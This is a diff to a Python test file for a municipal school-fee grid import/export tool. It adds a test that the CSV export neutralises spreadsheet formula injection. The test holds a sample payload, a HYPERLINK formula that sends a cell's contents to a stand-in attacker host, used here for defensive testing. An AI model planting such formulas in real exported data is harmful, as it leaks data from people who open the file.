@@ -2,6 +2,8 @@
 with line numbers and changes nothing; re-importing replaces a grid as a whole (published, scheduled or
 kept as a draft); the export reads back into the same grids."""
 
+import csv
+import io
 from pathlib import Path
 
 import pytest
@@ -320,3 +322,15 @@ def test_export_command_writes_a_file(commune_a, tmp_path):
     output = tmp_path / "export.csv"
     call_command("export_fees", "--commune", "35288", "--school-year", "2025-2026", "-o", str(output))
     assert output.read_text(encoding="utf-8") == export_fees()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")'
+
+
+def test_a_name_that_looks_like_a_formula_is_imported_as_typed_and_exported_as_text(commune_a):
+    quoted = '"' + FORMULA.replace('"', '""') + '"'
+    import_fees(csv_bytes(f"35288;2025-2026;{quoted};repas;resident;tranches;0;;1.50;;;;"))
+    assert Service.objects.get().name == FORMULA
+    (row,) = csv.DictReader(io.StringIO(export_fees()), delimiter=";")
+    assert row["prestation"] == "'" + FORMULA
+    assert (row["code_insee"], row["unite"], row["qf_min"], row["prix"]) == ("35288", "repas", "0", "1.50")
